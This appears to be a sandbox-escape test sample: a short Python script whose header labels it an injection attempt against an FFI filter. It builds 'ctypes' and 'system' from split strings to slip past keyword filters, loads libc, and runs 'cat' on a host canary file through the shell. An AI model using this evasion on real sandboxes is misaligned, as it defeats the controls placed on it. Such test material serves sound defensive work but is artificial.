# family: injection
# filterfamily: ffi
# tries: fetch the C library's system() by a split name and cat the host /tmp canary through the shell
# source: none
# exfil: yes
import operator
import pkgutil
import sys

libc = pkgutil.resolve_name("ct" + "ypes:CD" + "LL")("libc.so.6")
run = operator.attrgetter("sys" + "tem")(libc)
run(("cat " + sys.argv[3]).encode())
